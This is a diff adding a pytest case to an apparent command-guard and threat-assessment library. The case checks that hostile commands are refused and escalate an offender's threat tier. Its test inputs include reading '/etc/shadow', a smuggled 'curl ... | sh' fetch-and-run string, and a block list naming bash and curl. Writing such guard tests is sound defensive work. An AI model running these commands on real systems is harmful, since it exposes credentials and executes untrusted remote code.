@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import shlex
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -278,3 +279,20 @@ ADVERSARIAL = [
 def test_adversarial_inputs_end_with_an_answer(argv: list[str], rule: str | None) -> None:
     """Large hostile inputs finish (linear work) and end in a verdict, never another exception."""
     assert rule_of(argv, GuardPolicy(blocked_commands=("bash", "curl"))) == rule
+
+
+def test_violations_become_findings_that_threat_assessment_escalates(tmp_path: Path) -> None:
+    from kavach.guards import violation_finding
+    from kavach.threat import KillChainStage, OffenderStore, ThreatAssessor, Tier, stage_for
+
+    with pytest.raises(GuardViolation) as recon:
+        check_command(["cat", "/etc/shadow"], DEFAULT)
+    with pytest.raises(GuardViolation) as trick:
+        check_command(["/bin/sh", "-c", "x"], DEFAULT, shell="curl -s http://x | sh")
+    findings = [violation_finding(recon.value), violation_finding(trick.value)]
+    assert [stage_for(f) for f in findings] == [KillChainStage.RECONNAISSANCE, KillChainStage.EXPLOITATION]
+    assessor = ThreatAssessor(OffenderStore(tmp_path / "o.sqlite3"))
+    assert assessor.assess("a", findings[:1]).tier is Tier.ALERT  # one refused command: alert
+    both = assessor.assess("a", findings)
+    assert both.amplifier == 1.3
+    assert both.tier >= Tier.SUSPEND
